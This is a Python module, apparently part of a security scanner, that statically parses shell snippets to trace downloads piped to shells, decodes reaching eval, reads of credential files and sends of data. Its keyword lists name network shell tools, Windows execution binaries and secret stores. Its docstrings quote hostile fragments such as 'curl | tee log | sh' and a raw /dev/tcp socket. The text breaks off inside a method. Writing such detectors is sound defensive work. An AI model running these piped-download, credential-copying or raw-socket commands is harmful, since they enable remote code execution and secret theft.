"""Shell code, parsed with tree-sitter-bash: what it fetches, reads, sends, runs and leaves behind.

Values are followed through assignments in one snippet (``a=cu; b=rl; ${a}${b}``, ``$IFS``,
``$'\\x63'``, a path held in ``$K``), through pipes (``curl | tee log | sh``), redirections
(``curl … > /tmp/i.sh; . /tmp/i.sh``), command substitution and process substitution, so a
download that reaches a shell, a decode that reaches ``eval`` or a secret that reaches ``curl`` is
seen whatever the spelling. Nothing is run. The parser is tree-sitter's (a core dependency already):
it recovers from errors, so a fragment from a Markdown block still yields what it shows.
"""

from __future__ import annotations

import ast
import contextvars
import dataclasses
import fnmatch
import functools
import itertools
import operator
import re
import shlex
from collections.abc import Callable, Iterator
from pathlib import PurePosixPath
from typing import TYPE_CHECKING, Any

from skillgrade.findings import Evidence
from skillgrade.rules.security.behaviour import (
    automation,
    budget,
    copies,
    grammars,
    grants,
    hub,
    packages,
    vocabulary,
)
from skillgrade.rules.security.behaviour.model import Capability, Kind, Presentation, Snippet
from skillgrade.rules.security.behaviour.normalise import decode_layers, decode_named
from skillgrade.rules.security.behaviour.values import (
    BUNDLED,
    DATA_SUFFIXES,
    FROM_CONNECTION,
    SHARED_FILES,
    TEMP_FOLDER,
    TEST_REPORT,
    UNKNOWN,
    UNPACKED,
    Emitter,
    Files,
    Origin,
    Source,
    Value,
    argument_runner,
    bundled_line,
    bundled_rel,
    bundled_text,
    dotenv_file,
    folder_before,
    hook_input,
    joined,
    labelled_address,
    listed_secret_stores,
    merged,
    moved_into,
    package_scripts,
    printed_command,
    printed_fetch,
    printed_path_secrets,
    printed_store_path,
    reads_its_arguments,
    runner_secret,
    runs_code,
    script_argument_sink,
    script_input_sink,
    script_output,
    secrets_read,
    share_variable,
    shared_variable,
    shown_line,
    tokens_given_to_strangers,
)

if TYPE_CHECKING:
    from tree_sitter import Node, Parser, Tree

MAX_DEPTH = 4
"""Nested ``sh -c`` strings and decoded payloads analysed at most this deep."""
_LINE_PICKERS = frozenset({"head", "tail", "sort", "uniq"})
_TEXT_FILTERS = frozenset({"awk", "gawk", "mawk", "nawk", "cut"})
"""Filters run on known text (:mod:`filters`): a setting read out of a config, a name built from input."""
_UNKNOWN_PATH = "\x00"
"""Marks a filter's word known only as a path's shape: read as a bundled file, never as an option or a program."""
"""Filters that print some of their input's lines as they are: names listed stay names."""
_LIST_READERS = frozenset({"cat", "sed", "awk", "grep", "head", "tail", "jq", "yq", "cut", "xargs"})
"""Commands that read a list of paths out of a data file, one path a line or a field."""
_DATA_FILE_NAMED = re.compile(
    r"[^\s'\"()\[\]{},;=]+\.(?:json|ya?ml|toml|ini|cfg|conf|txt|list|lst|csv)(?![\w.])", re.IGNORECASE
)
"""A data file's path inside a one-line program's code (``open('*/config/connector.yaml')``)."""
_COPIES_FILES = re.compile(r"(?:^|[\s;|&(])(?:(?:cp|rsync|tar|zip|ditto|7z|scp)\s|cat\s+(?:-[-\w]*\s+)*\"?\$)")
"""A script that copies, archives or concatenates files (``cat "$f" >> "$out"``, a path known at run
time): what a list it reads names is then copied."""


def _over_ssh(texts: list[str | None]) -> bool:
    """``rsync -e ssh`` / ``--rsh=…``: the transfer runs over a remote shell, to another machine."""
    return any(t in ("-e", "--rsh") or (t or "").startswith(("--rsh=", "-essh")) for t in texts)


def _pushed_to_unknown(args: list[Value]) -> bool:
    """The last operand (the destination) is known only at run time and no source names a remote
    (``host:path``): the copy goes out, not in."""
    if not args or args[-1].text is not None:
        return False
    sources = [a.pattern or "" for a in args[:-1] if not (a.pattern or "").startswith("-")]
    return not any(re.match(r"^(?:[\w.$*-]+@)?[\w.${}*-]+:(?!//)", source) for source in sources)


_COPIES_BY_PATH = re.compile(
    r"\bshutil\.copy|\bcopy(?:file|tree|2)?\(|\bcopyFile(?:Sync)?\(|\bfs\.cpSync\(|\bCopy-Item\b|\bFileUtils\.cp"
    r"|(?:^|[\s;|&(])(?:cp|rsync|ditto|install)\s"
)
"""Code that copies files by path, in any of the skill's languages (``shutil.copy2(src, dst)``,
``fs.copyFileSync``, ``cp -r "$f" "$out"``): handed a list of paths, it copies what the list names."""
_READS_LISTED_FILES = re.compile(
    r"readFileSync|readFile\(|\bopen\(|read_bytes\(|read_text\(|Get-Content|\bcat\b|[\s=]@[\"']?\$\{?\w"
)
"""A script that reads files by path (``curl -d @"$1"`` too): handed a list of paths, it reads what
the list names; handed a path, it reads that file."""
_MAX_CALL_DEPTH = 4
"""Calls into the program's own functions followed at most this deep."""
_EXPANSION = re.compile(r"\$\{(\w+)\}|\$(\w+|[@*#])")
_POSITIONAL = ("1", "2", "3", "4", "5", "6", "7", "8", "9", "@", "*", "#")

_WRAPPERS = frozenset(
    {"sudo", "doas", "nohup", "setsid", "time", "nice", "ionice", "command", "builtin", "stdbuf", "caffeinate",
     "disown", "env", "timeout", "watch", "unbuffer", "runuser", "su", "start", "start-process", "exec",
     "busybox", "toybox", "wine", "wine64"}
)  # fmt: skip
_WRAPPER_VALUE_FLAGS = frozenset({"-u", "-g", "-n", "-c", "-s", "-o", "-e", "-i", "-k", "-p"})
_GIT_CONFIG_READS = frozenset(
    {"--get", "--get-all", "--get-regexp", "--get-urlmatch", "-l", "--list", "--unset", "--unset-all",
     "--remove-section", "--show-origin", "get", "list", "unset", "--edit", "-e"}
)  # fmt: skip
"""``git config`` options and subcommands that read or remove a setting rather than set it."""
_READERS = frozenset(
    {"cat", "head", "tail", "less", "more", "cp", "scp", "rsync", "tar", "zip", "7z", "7za", "base64", "xxd", "od",
     "strings", "sqlite3", "gpg", "openssl", "grep", "awk", "sed", "jq", "yq", "dd", "mv", "rclone", "gzip", "bzip2",
     "xz", "zstd", "find", "ditto", "tee", "nl", "sort", "uniq", "hexdump", "type", "get-content", "gc",
     "copy-item", "compress-archive", "python", "python3", "node", "curl", "wget", "split", "install", "pv",
     "cut", "tac", "rev", "fold", "paste", "column", "iconv"}
)  # fmt: skip
"""Commands that read the files they are given (``ssh -i key`` uses a key; ``cat key`` reads it)."""
_PROGRAM_FOLDERS = frozenset(
    {"/usr/local/bin", "/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/sbin", "/opt/homebrew/bin",
     "~/.local/bin", "~/bin", "~/.cargo/bin", "~/go/bin", "~/.bun/bin", "~/.deno/bin", "~/.npm-global/bin"}
)  # fmt: skip
"""Folders of programs on the usual PATH: a file put there runs whenever its name is called."""
_PATH_FOLDERS = tuple(sorted(folder + "/" for folder in _PROGRAM_FOLDERS))
"""The same folders as prefixes, for a program run by its bare name (:meth:`_Walker.on_path`)."""
_COPIERS = frozenset({"cp", "tar", "zip", "7z", "7za", "rsync", "ditto", "mv", "gzip", "install", "dd", "split",
                      "openssl", "gpg", "age"})  # fmt: skip
"""Commands that put what they read into the files they name: a copy, an archive, an encryption
(``openssl enc -in ~/.aws/credentials -out x.bin``, ``gpg -c -o x.gpg key``) still holds it."""
_UPLOAD_FLAGS = frozenset(
    {"-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form",
     "--form-string", "-T", "--upload-file", "--post-data", "--post-file", "--body-data", "--body-file", "--json"}
)  # fmt: skip
_OUTPUT_FLAGS = frozenset({"-o", "--output", "-O", "--output-document", "-OutFile", "-outfile"})
_VALUE_FLAGS = frozenset(
    {"-H", "--header", "-X", "--request", "-A", "--user-agent", "-u", "--user", "-e", "--referer", "-m",
     "--max-time", "--connect-timeout", "--retry", "-w", "--write-out", "-b", "--cookie", "-c", "--cookie-jar",
     "--proto", "-x", "--proxy", "-U", "-t", "--tries", "-T", "--timeout"}
)  # fmt: skip
_HARMLESS_RC = re.compile(
    r"^\s*(?:export\s+[\w]+=|alias\s|source\s|\.\s|eval\s+\"?\$\(\s*[\w./~-]+\s+(?:init|env|shellenv|hook|activate)\b"
    r"|\[\[?\s|if\s|fi\b|#|PATH=|[\w]+=[^$`]*$|set\s|setopt\s|bindkey\s|complete\s|autoload\s|zstyle\s|plugins=)"
)
_URLISH = re.compile(r"(?i)^(?:https?|ftps?|git\+https?|git\+ssh)://|^//")


@functools.cache
def _parser() -> Parser:
    import tree_sitter

    return tree_sitter.Parser(tree_sitter.Language(grammars.binding("tree_sitter_bash").language()))


@functools.lru_cache(maxsize=4)
def _parsed_once(text: str) -> Tree:
    """One parse of a text asked about at several offsets (each address in a written start-up file)."""
    return _parser().parse(text.encode())


def command_holding(text: str, offset: int) -> str | None:
    """The name of the innermost shell command whose words hold the byte at ``offset`` of ``text``."""
    node = _parsed_once(text).root_node.descendant_for_byte_range(offset, offset + 1)
    while node is not None and node.type != "command":
        node = node.parent
    name = node.child_by_field_name("name") if node is not None else None
    return name.text.decode("utf-8", "replace") if name is not None and name.text else None


def address_only_shown(text: str, offset: int) -> bool:
    """The address at byte ``offset`` of shell ``text`` is only ever shown, never handed to a tool that
    opens it: printed to the terminal (``echo``, ``printf``), put in a commit message by a git message
    option (``--trailer "Ticket: https://…"``), or the value of a variable (not a tool's download
    setting) that is set in a function the text neither calls nor wraps a program with, or that is
    not exported and is only ever printed (``printf '%s' "$BASE"``)."""
    node = _parsed_once(text).root_node.descendant_for_byte_range(offset, offset + 1)
    command = _ancestor(node, "command")
    if command is not None and (_printed(command) or _git_message(command, node)):
        return True
    assignment = _ancestor(node, "variable_assignment")
    name_node = assignment.child_by_field_name("name") if assignment is not None else None
    name = _node_text(name_node)
    if assignment is None or not name or command is not None:
        return False  # an assignment before a command (`X=https://… tool`) is that command's setting
    lowered = name.lower()
    if lowered in _INDEX_VARIABLES | _MIRROR_VARIABLES or name in _GO_MODULE_SETTINGS or lowered.endswith("proxy"):
        return False  # where pip, npm, a toolchain or every HTTP client fetches from
    function = _ancestor(assignment, "function_definition")
    if function is not None:
        return _only_on_request(text, function)
    declared = assignment.parent
    if declared is not None and declared.type == "declaration_command" and _node_text(declared.child(0)) != "local":
        return False  # exported or declared for other programs to read
    uses = list(_uses_of(_parsed_once(text).root_node, name, assignment))
    return bool(uses) and all(printing is not None and _printed(printing) for printing in uses)


_PRINTING = frozenset({"echo", "printf"})
_MAX_PRINTED_ROWS = 64
"""Lines of one print looked at for a secret store's path."""
_GIT_MESSAGE_OPTIONS = frozenset({"-m", "--message", "--trailer"})
"""git options whose value is text for the commit, tag or note (``commit -m``, ``interpret-trailers --trailer``)."""


def _node_text(node: Node | None) -> str:
    return node.text.decode("utf-8", "replace") if node is not None and node.text else ""


def _ancestor(node: Node | None, kind: str) -> Node | None:
    while node is not None and node.type != kind:
        node = node.parent
    return node


def _output_on_stdout(statement: Node) -> bool:
    """A top-level statement whose output is the script's own: not written to a file (a redirect to
    the terminal's streams aside)."""
    if statement.type != "redirected_statement":
        return True
    return all(
        _operator(redirect) in ("<", "<&") or re.search(r">&\s*[12]$|/dev/(?:stderr|stdout|tty)$", _node_text(redirect))
        for redirect in statement.children
        if redirect.type == "file_redirect"
    )


def _printed(command: Node) -> bool:
    """A print to the terminal: ``echo``/``printf`` not piped on to another program (a text filter
    aside) and not written to a file."""
    if _node_text(command.child_by_field_name("name")) not in _PRINTING:
        return False
    if _ancestor(command, "command_substitution") or _ancestor(command, "process_substitution"):
        return False  # `pip install "$(echo https://…)"`: the print is another program's argument
    parent = command.parent
    if parent is not None and parent.type == "redirected_statement":
        targets = [_node_text(c) for c in parent.children if c.type == "file_redirect"]
        if any(not re.search(r">&\s*[12]$|/dev/(?:null|stderr|stdout|tty)$", target) for target in targets):
            return False
        parent = parent.parent
    if parent is not None and parent.type == "pipeline":
        later = [c for c in parent.named_children if c.start_byte > command.start_byte]
        names = [_node_text(c.child_by_field_name("name")) if c.type == "command" else "" for c in later]
        return all(name in _TEXT_PRINTERS for name in names)
    return True


_TEXT_PRINTERS = frozenset(
    {"sed", "awk", "grep", "tr", "cut", "column", "sort", "head", "tail", "fold", "less", "more"}
)
"""Programs a print may be piped into that only reshape or page text."""


def _git_message(command: Node, node: Node | None) -> bool:
    """``node`` is the value of a git message option: text written into a commit, tag or note."""
    if _node_text(command.child_by_field_name("name")) != "git":
        return False
    words = [child for child in command.named_children if child.type != "command_name"]
    for before, word in itertools.pairwise(words):
        if _node_text(before) in _GIT_MESSAGE_OPTIONS and _holds(word, node):
            return True
    return any(
        re.match(r"--(?:message|trailer)=", _node_text(word)) is not None and _holds(word, node) for word in words
    )


def _holds(outer: Node, node: Node | None) -> bool:
    return node is not None and outer.start_byte <= node.start_byte and node.end_byte <= outer.end_byte


def _only_on_request(text: str, function: Node) -> bool:
    """A function the text defines runs only when the user types its name: the text never names it
    outside its body (a call, a prompt hook, a trap), and it wraps no program of its own name
    (``git() { …; command git "$@"; }`` runs each time the user runs git)."""
    name = _node_text(function.child_by_field_name("name"))
    if not name:
        return False
    word = re.compile(rf"(?<![\w.-]){re.escape(name)}(?![\w.-])")
    outside = text.encode()[: function.start_byte] + b"\n" + text.encode()[function.end_byte :]
    return word.search(outside.decode("utf-8", "replace")) is None and not _runs_own_name(function, name)


_RUNNING_PREFIXES = frozenset({"command", "builtin", "exec", "sudo", "nohup", "env", "time", "doas"})


def _runs_own_name(function: Node, name: str) -> bool:
    """The function's body runs a program of the function's own name (``command git "$@"``, ``\\git``,
    ``/usr/bin/git``): it wraps that program, so it runs each time the user runs it."""
    stack = [function.child_by_field_name("body")]
    while stack:
        node = stack.pop()
        if node is None:
            continue
        if node.type == "command":
            words = [_node_text(c).lstrip("\\") for c in node.named_children]
            while words and words[0] in _RUNNING_PREFIXES:
                words = words[1:]
            if words and PurePosixPath(words[0]).name == name:
                return True
        stack.extend(node.children)
    return False


def _uses_of(root: Node, name: str, assignment: Node) -> Iterator[Node | None]:
    """The command holding each use of variable ``name`` outside its own assignment (``None`` when a
    use is held by none: another assignment, a test)."""
    stack = [root]
    while stack:
        node = stack.pop()
        if node.type in ("simple_expansion", "expansion") and not _holds(assignment, node):
            named = next((c for c in node.named_children if c.type == "variable_name"), None)
            if _node_text(named) == name:
                yield _ancestor(node, "command")
                continue
        stack.extend(node.children)


_WORTH_PARSING = (
    *vocabulary.SECRET_WORDS, "curl", "wget", "fetch", "aria2c", "iwr", "irm", "invoke-", "webclient", "certutil",
    "bitsadmin", "urlcache", "}${", "base64", "base32", "basenc", "xxd", "openssl", "gunzip", "zcat", "gzip -d",
    "uudecode", "rev", "remote-code", "remote_code",
    "tr ", "eval", "source", "exec", "bash", "sh ", "sh\n", "zsh", "$shell", "| sh", "|sh", ". /", ". ~", ". $",
    ". \"", ". .", ". '", "python", "node", "perl", "ruby", "php", "pwsh", "powershell", "iex", "osascript", "/dev/tcp",
    "rscript", "julia",
    "/dev/udp", "nc ", "ncat", "netcat", "socat", "telnet", "dig ", "nslookup", "host ", "drill", "printenv", "env",
    "export -p", "declare", "compgen", ".bashrc", ".zshrc", ".profile", "rc\"", "rc'", "profile", "fish", "cron",
    "launch", "systemd", "systemctl", "hooks", "sshcommand", "hookspath", "authorized_keys", "currentversion",
    "schtasks", "scheduledtask", "startup", "autostart", ".pth", "pip ", "pip3", "pipx", "npm ", "npx ", "pnpm",
    "yarn", "uv ", "uvx", "bunx", "gem ", "cargo ", "conda", "poetry", "git push", "git remote", "git config",
    "gh auth", "security ", "find ", "$'", "at ", "systemd-run", "defaults write", "cp ", "ln ", "\\x",
    "printf", "xargs", "tee", "index-url", "registry", "ssh ", "deno", "bun ", "awk", "alias", "${user", "$user",
    "${host", "$host", "${computername", "ztcp",
    "ngrok", "cloudflared", "bore ", "frpc", "chisel", "docker", "podman", "git clone", "tar ", "unzip",
    "gh api", "deploy-key", "ssh-key", "api.github.com", "glab api", "deploy_keys", "/members",
    "msiexec", "mshta", "regsvr32", "rundll32", "wmic", "cmstp", "msxsl", "pubprn", "binpath", "nc64",
    "rpm ", "yum ", "dnf ", "zypper", "choco", "winget", "nuget", "apk ", "helm", "brew tap", "go install",
    "go run ", "go get ", "conan", "arduino-cli", "spack",
    "apt-repository", "sources.list", "repos.d", "flatpak", "scoop", "krew", "_mirror", "download_host",
    "download_base_url", "_dist_server", "goproxy", "_cdnurl", "binary_site", "--install-extension",
    "submodule", "user-data-dir", "remote-debugging",
)  # fmt: skip
"""A snippet with none of these (lower-cased) fetches, reads, sends, runs, decodes, persists and
installs nothing the model knows: it is not parsed (most skills' shell blocks are git and ls)."""


def analyse(snippet: Snippet) -> list[Capability]:
    lowered = snippet.text.lower()
    if (
        not any(word in lowered for word in _WORTH_PARSING)
        and not any(word in lowered for word in _TOKEN_WORDS)
        and not _names_a_saved_download(snippet.text)
    ):
        if snippet.presentation is Presentation.STEP and "cd " in snippet.text:
            _steps_folder(snippet)  # nothing else to read here, but the next steps work in the folder
        return []
    emitter = Emitter(snippet)
    variables = _runner_environment(snippet)
    for name, value in variables.items():  # every secret given at once, used here: a secret store read
        origin = value.origins[0]
        if origin.source is Source.SECRET and re.search(rf"\$\{{?{re.escape(name)}\b", snippet.text):
            emitter.emit(Kind.SECRET_READ, origin.detail, origin.evidence)
    choices = _Choices()
    walker = _Walker(emitter, dict(variables), Files(), 0)
    walker.choices = choices
    if snippet.presentation is Presentation.STEP:
        walker.entered = folder_before(snippet.path, snippet.first_line) or ""
    walker.run(snippet.text, 0, hook_input(emitter))
    if choices.met:  # a variable set one way in one branch and another in the next: either may hold
        again = _Walker(Emitter(snippet), dict(variables), Files(), 0)
        again.choices = _Choices(earlier_wins=True)
        again.run(snippet.text, 0, hook_input(again.out))
        from skillgrade.rules.security.behaviour.places import add_other_branches  # off the hook's import path

        add_other_branches(emitter.found, again.out.found)
    return _configured_destinations(snippet, emitter.found)


_ENTERED = re.compile(
    r"(?m)(?:^|[;&|(]\s*)(?:cd|pushd)\s+[\"']?((?:~|\$HOME|/|\$\{?\w+)(?:\$\([^()]*\)|[^\s;&|()\"'])*)"
)
"""A ``cd`` into a folder spelled from home, the root or a variable, ``$(…)`` parts kept in the word."""
_FOLDER_ASSIGNED = re.compile(r"(?m)^\s*(?:export\s+)?([A-Za-z_]\w*)=([\"']?(?:~|\$HOME|/)[^\s;&|]*)")
_RUN_TIME_PART = re.compile(r"\$\([^()]*\)|\$\{[^}]*\}|\$\w+|`[^`]*`")


def _steps_folder(snippet: Snippet) -> None:
    """The folders a step that is otherwise not read enters (``mkdir -p ~/.cache/q && cd ~/.cache/q``),
    a part known only at run time kept as ``*``: the walker records those it reads itself."""
    assigned = {name: value.strip("\"'") for name, value in _FOLDER_ASSIGNED.findall(snippet.text)}
    for match in _ENTERED.finditer(snippet.text):
        word = re.sub(r"^\$\{?(\w+)\}?", lambda m: assigned.get(m.group(1), m.group(0)), match.group(1))
        word = word.replace("$HOME", "~", 1) if word.startswith("$HOME") else word
        folder = _RUN_TIME_PART.sub("*", word)
        if not folder.startswith(("~/", "/")):
            continue  # a folder whose start is only known at run time
        line = snippet.first_line + snippet.text.count("\n", 0, match.start(1))
        moved_into(snippet.path, line, folder.rstrip("/"))


def _names_a_saved_download(text: str) -> bool:
    """``text`` names a file another snippet of the skill downloaded (a Makefile's rule fetching
    ``$(TOOL)``, the next rule running it): running it runs the download, though no word of this
    snippet fetches anything. Nothing to look at when no snippet saved a download."""
    shared = SHARED_FILES.get()
    if not shared:
        return False
    return any(
        len(name) > 2 and name in text
        for path, value in shared.items()
        if value.of(Source.FETCHED)
        for name in (PurePosixPath(path).name,)
    )


@dataclasses.dataclass
class _Choices:
    """Branches of a program (``if``/``else``, ``case``, ``a || b``) that set one variable to different
    values: read as written, the last branch's value is what later lines see; a second walk keeps the
    earliest branch's instead, so what either branch gives counts."""

    earlier_wins: bool = False
    met: bool = False


def _configured_destinations(snippet: Snippet, found: list[Capability]) -> list[Capability]:
    """A bundled script's sends to an address it builds at run time (``"$base/$bucket"`` read out of
    the settings by ``sed``/``awk``), when the data files of the skill it names hold one remote host
    between them: the address is that host's (``base = https://…`` in ``config/backup.ini``). The
    send's evidence says where the host was read; the chain of the data sent is unchanged."""
    unknown = [c for c in found if c.kind is Kind.EGRESS and c.detail == "?"]
    if not unknown or snippet.presentation is not Presentation.SCRIPT:
        return found
    from skillgrade.rules.security.behaviour.places import host_of  # off the hook's import path

    table = BUNDLED.get() or {}
    named = [rel for rel in table if rel.lower().endswith(DATA_SUFFIXES) and PurePosixPath(rel).name in snippet.text]
    hosts: dict[str, tuple[str, str]] = {}
    for rel in named[:8]:
        for url in vocabulary.urls(table[rel][:65536]):
            host = host_of(url)
            if host and not vocabulary.is_local_host(host) and not vocabulary.placeholder_host(host):
                hosts.setdefault(host, (rel, url))
    if len(hosts) != 1:
        return found
    ((host, (rel, url)),) = hosts.items()
    replaced: list[Capability] = []
    for capability in found:
        if capability in unknown:
            send = capability.chain[-1]
            told = dataclasses.replace(
                send, what=f"{send.what.removesuffix(' to ?')} to {host} (as {rel} names: {url})"
            )
            capability = dataclasses.replace(capability, detail=host, chain=(*capability.chain[:-1], told))
        replaced.append(capability)
    return replaced


def _runner_environment(snippet: Snippet) -> dict[str, Value]:
    """The secrets the runner puts in the code's environment, as variables carrying them: every CI
    secret at once is a secret store's worth; one named secret is a token (sent to its own service
    normally)."""
    variables: dict[str, Value] = {}
    for name, _, _ in snippet.environment:
        given = runner_secret(snippet, name)
        if given is not None:
            variables[name] = Value(None, (given,))
    return variables


def _prepare(text: str) -> bytes:
    """``text`` as bytes tree-sitter-bash parses well: ``<>`` (read-write redirect) is read as ``>``."""
    text = re.sub(r"(\d*)<>", lambda m: m.group(1) + "> ", text)
    if ("&&" in text or "||" in text) and text.count("|") >= 2:
        text = _LONG_PIPELINE.sub(_pipeline_ended, text)
    if "<" in text:
        text = _PLACEHOLDER_WORD.sub(_quoted_placeholder, text)
    return text.encode("utf-8", "replace")


_LONG_PIPELINE = re.compile(r"(?m)^([^\n|#]*(?:(?<!\|)\|(?!\|)[^\n|#]*){2,})$")
"""A line that pipes three or more commands (``echo … | base64 -d | sh``, ``env | sort | gzip > ctx``).
tree-sitter-bash misreads the end of such a line when a later statement holds ``&&`` or ``||``: it
takes the following lines for more words of its last command (or targets of its redirect), so the
commands on them are lost and the pipeline's own last command is misread. A ``;`` after the line ends
the statement as the newline already does in bash."""
_OPEN_LINE_END = re.compile(r"(?:[\\|&;({!]|\b(?:do|then|else|in))[ \t]*$")
"""The end of a line whose statement goes on below (a continuation, an operator, a block opened)."""


def _pipeline_ended(match: re.Match[str]) -> str:
    """A line matched by :data:`_LONG_PIPELINE` with ``;`` after it when its statement ends there: not one
    that goes on below, nor a ``case`` pattern (``a|b|c)``), where ``;`` would not be allowed."""
    line = match.group(1)
    stripped = line.rstrip()
    pattern = stripped.endswith(")") and stripped.count(")") > stripped.count("(")
    return line if not stripped or pattern or _OPEN_LINE_END.search(stripped) else f"{stripped};"


_FILLED_IN = re.compile(r"<[A-Za-z][\w .-]*>")
_OWN_FILE_NAME = re.compile(r"[\w-]{4,}(?:\.[\w-]+)*\.[A-Za-z]\w{0,5}")
"""A file name of its own with a suffix (``migration.json``), not a word or a flag."""
"""A whole word the reader fills in (``<archive>``)."""
_PLACEHOLDER_WORD = re.compile(
    r"""("(?:[^"\\\n]|\\.)*"|'[^'\n]*')"""
    r"|(?<=[ \t=])(<[A-Za-z][\w.-]*>)(?=[ \t;]|$)|(?<=[\w./@:-])(<[A-Za-z][\w.-]*>)(?=[\w./-])"
    r"|(?<=[ \t=])(<[A-Za-z][\w.-]*(?: [\w.-]+){1,6}>)(?=[ \t]*$)",
    re.MULTILINE,
)
"""A word written for the reader to fill in (``docker logs <id>``), whole or inside a path
(``/tmp/triage-<id>.tgz``), or a phrase of a few words closing the line (``--to <from step 3>``): a
literal word, not a redirect from a file ``id`` into one named by the next word, which would swallow
the rest of the command. A quoted string (the first group) is kept as
it is: ``<id>`` is already literal there, and the same name inside and outside quotes is one file."""


def _quoted_placeholder(match: re.Match[str]) -> str:
    """A placeholder single-quoted, a quoted string as it is (see :data:`_PLACEHOLDER_WORD`)."""
    quoted, whole, inside, phrase = match.groups()
    return quoted if quoted is not None else f"'{whole or inside or phrase}'"


class _Walker:
    """Walks one shell program, keeping variables, files written and file descriptors opened."""

    def __init__(self, out: Emitter, variables: dict[str, Value], files: Files, depth: int) -> None:
        self.out = out
        self.variables = variables
        self.files = files
        self.sockets: dict[str, str] = {}
        """Descriptors bound to a raw connection (``exec 3<>/dev/tcp/h/p``: ``3``), to the host."""
        self.scripts_written: dict[str, tuple[str, int]] = {}
        """Scripts the snippet wrote with parts only known at run time (a here-document filled with
        ``$RUN``, ``$GPUS``): their text with ``*`` for each unknown part, read if the file is run."""
        self.go_settings: dict[str, tuple[int, str]] = {}
        """Go's module settings seen so far (``GOPROXY``, ``GOSUMDB`` …): their line and value."""
        self.index_settings: dict[str, tuple[int, str]] = {}
        """A package manager's index set by ``config set`` so far (``index``) and the setting that turned
        its certificate checks off (``unverified``): their line and value, set in either order."""
        self.remotes: dict[str, str] = {}
        self.extracted: Value | None = None
        """What a downloaded archive or cloned repository unpacked here holds (files run from it)."""
        self.handed_downloads: dict[str, Value] = {}
        """Folders this snippet handed a bundled script that unpacked a download into them (``fetch.sh
        URL .tools/x``), with the download: a file run after ``cd`` into one runs the download."""
        self.anchor = 0
        self.depth = depth
        self.offset = 0
        self.pinned: int | None = None
        """The line every node reports, for code held in one place of the file (``sh -c '…'``, a
        decoded blob, a here-document fed to a shell)."""
        self.functions: dict[str, Node] = {}
        """Functions the program defines, by name: a call runs the body with its arguments as $1 …"""
        self.calling: list[str] = []
        """Functions being followed now (shared with inner walkers): none is followed into itself."""
        self.stdin = UNKNOWN
        """What the program reads on its standard input: a command substitution (``in=$(cat)``) reads it too."""
        self.function_files: dict[str, str] = {}
        """Functions defined in a bundled file this program sources: that file (relative to the skill)."""
        self.cwd: str | None = None
        self.entered = ""
        """The folder a ``cd`` in this step or an earlier step of its Markdown file moved into, its start
        spelled out (a part known only at run time kept as ``*``): a file written by a relative name is there."""
        """The folder a constant ``cd`` moved into: a relative path an archiver takes (``zip -r x .``) is in it."""
        self.downloaded_key = False
        """A signing key came from a download (``curl … | gpg --import``): what it verifies proves nothing."""
        self.failure_ignored = False
        """Walking the left of ``a || true``: a check failing there stops nothing, so verifies nothing."""
        self.choices = _Choices()
        """Whether branches set a variable two ways, and which branch's value this walk keeps."""
        self.tables: dict[str, dict[str, Value]] = {}
        """Associative arrays (``declare -A R=([npm]=".npmrc")``, ``R[git]=…``): each key's value, for
        ``${R[$k]}`` and ``${!R[@]}`` (the array's variable holds its values joined, as an array does)."""
        self.arrays: set[str] = set()
        """Variables set to an array (``parts=(p r i n t e n v)``): ``"${parts[*]}"`` joins their items."""
        self.separator: str | None = None
        """The first character of ``$IFS`` a statement of its own set (``IFS=;``), which ``"${a[*]}"``
        joins an array's items with; ``None`` while it is the default blank."""
        self.spaced_words: set[str] = set()
        """Loop words written quoted with a space in them (``"Library/Application Support/x"``): one path
        each, kept whole where a later loop puts them unquoted into a longer word (``"$HOME"/$rel``)."""

    def run(self, text: str, line_offset: int, stdin: Value = UNKNOWN) -> None:
        if not text.strip():
            return
        self.offset = line_offset
        self.stdin = stdin
        tree = budget.parse(_parser(), _prepare(text))
        if self.depth:
            self.statements(tree.root_node, stdin)
            return
        for child in tree.root_node.named_children:
            output = self.statement(child, stdin)
            if output.origins and _output_on_stdout(child):
                # `printf '%s' "$buf" | base64 -d`, buf read from a server: what the script prints is
                # what it downloaded, and a step following its output follows the server
                printed_fetch(self.out.snippet.rel, output)

    def inner(self, variables: dict[str, Value], depth: int) -> _Walker:
        """A walker for a substitution or nested code, sharing this one's files and functions."""
        walker = _Walker(self.out, variables, self.files, depth)
        walker.offset, walker.pinned = self.offset, self.pinned
        walker.functions, walker.calling = self.functions, self.calling
        walker.function_files = self.function_files
        walker.scripts_written = self.scripts_written
        walker.spaced_words = self.spaced_words
        walker.tables = self.tables
        walker.arrays = self.arrays
        walker.separator = self.separator
        walker.stdin = self.stdin
        walker.choices = self.choices
        walker.cwd = self.cwd  # `cd "$tmp" && echo "$(cat sum)"`: the substitution reads in that folder
        return walker

    def positional(self, words: list[Value]) -> None:
        """``set -- a b "$@" c``: the positional parameters become a list (``"$@"`` then expands to it),
        a way to build a list of paths word by word, as an array is."""
        words = _split_words(words)
        for index in range(1, 10):
            self.variables[str(index)] = words[index - 1] if index <= len(words) else Value("")
        self.variables["@"] = self.variables["*"] = joined(words, " ") if words else Value("")
        self.variables["#"] = Value(str(len(words)))

    def call(self, name: str, args: list[Value], stdin: Value) -> Value:
        """A call to a function the program defined: its body with ``$1`` … ``$@`` bound to ``args``."""
        body = self.functions[name]
        saved = {key: self.variables.get(key) for key in _POSITIONAL}
        for index in range(1, 10):
            self.variables[str(index)] = args[index - 1] if index <= len(args) else Value("")
        self.variables["@"] = self.variables["*"] = joined(args, " ") if args else Value("")
        self.variables["#"] = Value(str(len(args)))
        self.calling.append(name)
        elsewhere = self.function_files.get(name)
        offset, pinned = self.offset, self.pinned
        try:
            if elsewhere is None:
                return self.statement(body, stdin)
            self.offset, self.pinned = 0, None  # the body's lines are lines of the sourced file
            with self.out.placed_in(elsewhere):
                return self.statement(body, stdin)
        finally:
            self.offset, self.pinned = offset, pinned
            self.calling.pop()
            for key, value in saved.items():
                if value is None:
                    self.variables.pop(key, None)
                else:
                    self.variables[key] = value

    def line(self, node: Node) -> int:
        if self.pinned is not None:
            return self.pinned
        return int(node.start_point[0]) + 1 + self.offset

    # statements -----------------------------------------------------------------------------------

    def statements(self, node: Node, stdin: Value) -> Value:
        result = UNKNOWN
        for child in node.named_children:
            result = self.statement(child, stdin)
        return result

    def captured(self, node: Node, stdin: Value) -> Value:
        """What ``$(a; b)`` captures: the output of every command in it, not only the last one's
        (``$(env; for f in …; do cat "$f"; done)`` holds the environment as well as the files)."""
        if len(node.named_children) < 2:
            return self.statements(node, stdin)
